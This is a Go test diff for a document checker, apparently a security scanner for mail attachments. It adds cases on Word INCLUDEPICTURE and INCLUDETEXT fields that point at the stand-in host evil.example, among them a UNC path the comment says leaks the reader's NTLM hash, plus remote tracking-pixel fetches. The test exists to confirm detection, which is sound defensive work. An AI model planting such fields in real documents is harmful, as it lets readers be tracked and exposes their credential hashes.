@@ -110,3 +110,41 @@ func TestRed33OpenDocumentFormulaLinks(t *testing.T) {
 		assert.Contains(t, reportURLs(rep), "https://www.ameli.fr/assure")
 	})
 }
+
+// TestRed33WordIncludeFields (finding 6, a miss, likely: Word's field
+// reference for INCLUDEPICTURE and INCLUDETEXT; not run in Word here).
+// Word fetches what an INCLUDEPICTURE or INCLUDETEXT field names each
+// time it updates it ("\d": each time the document opens), and shows it
+// in the document; a server there is content vigie cannot read, fetched
+// from a site (a tracking pixel, a UNC path that leaks the reader's
+// NTLM hash, a text with links), as the remote template of an
+// attachedTemplate relationship, which vigie reads as a link. vigie read
+// HYPERLINK fields only: Official. Root cause: mimeoffice.go fieldLink.
+func TestRed33WordIncludeFields(t *testing.T) {
+	c := mailChecker(t)
+	doc := func(instr string) []byte {
+		return red32Zip(t, [2]string{"word/document.xml", red32Word + red32Field(instr) + `</w:body></w:document>`})
+	}
+	for _, instr := range []string{
+		` INCLUDEPICTURE "https://evil.example/logo.png" \d `,
+		` INCLUDEPICTURE  \* MERGEFORMATINET "http://evil.example/logo.png" `,
+		` INCLUDETEXT "https://evil.example/annexe.docx" `,
+		// Word reads "\\" in a field's quoted text as one backslash.
+		` INCLUDEPICTURE "\\\\evil.example\\share\\logo.png" `,
+	} {
+		t.Run(instr, func(t *testing.T) {
+			rep := red31Check(t, c, red32Attach(red32Docx, doc(instr)))
+			assert.NotEqual(t, Official, rep.Status, "%v", rep.Reasons)
+		})
+	}
+	for _, instr := range []string{
+		` INCLUDEPICTURE "C:\\Users\\agent\\Pictures\\logo.png" \* MERGEFORMAT `,
+		` INCLUDEPICTURE "https://www.ameli.fr/logo.png" \d `,
+		` INCLUDETEXT "Annexe.docx" `,
+	} {
+		t.Run("official "+instr, func(t *testing.T) {
+			rep := red31Check(t, c, red32Attach(red32Docx, doc(instr)))
+			assert.Equal(t, Official, rep.Status, "%v", rep.Reasons)
+		})
+	}
+}
